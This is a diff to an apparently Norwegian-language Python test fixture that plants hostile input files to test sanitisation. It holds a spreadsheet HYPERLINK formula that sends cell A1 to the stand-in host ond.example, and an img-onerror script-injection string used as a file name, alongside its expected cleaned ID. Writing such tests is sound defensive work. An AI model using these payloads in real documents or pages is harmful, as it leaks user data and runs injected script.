@@ -34,7 +34,9 @@ TITLE = f"Vaktliste {HARM}"
 FORMULA = '=HYPERLINK("https://ond.example/?a="&A1;"gevinst")'
 HOSTILE_ID = "oslo-ond"
 LONG_ID = "oslo-lang"
-ODD_ID = f'oslo-"><img src=x onerror=window.{EVIL}=1>'
+ODD_FILE = f'oslo-"><img src=x onerror=window.{EVIL}=1>'
+ODD_ID = f"oslo-img-src-x-onerror-window-{EVIL}-1"
+"""What is made of the name of that file."""
 LONG = "Lang tittel " * 8500
 """A hundred thousand signs."""
 BORROWED = "viborg-skaermbesoeg"
@@ -52,7 +54,7 @@ def plant_hostile(root: Path) -> None:
     }
     (folder / f"{HOSTILE_ID}.i18n.yaml").write_text(_yaml(cards), encoding="utf-8")
     odd = {"title": "Rart navn", "language": "nb", "place": "no/oslo", "status": "idea"}
-    (folder / f"{ODD_ID}.md").write_text(_file(odd, f"## Utfordringen\n\n{HARM}\n"), encoding="utf-8")
+    (folder / f"{ODD_FILE}.md").write_text(_file(odd, f"## Utfordringen\n\n{HARM}\n"), encoding="utf-8")
     long = {"title": LONG, "summary": LONG, "language": "nb", "place": "no/oslo", "status": "idea"}
     (folder / f"{LONG_ID}.md").write_text(_file(long, f"## Utfordringen\n\n{LONG}\n"), encoding="utf-8")
     _spoil(practices / "vocabulary.yaml", practices / "places.yaml")
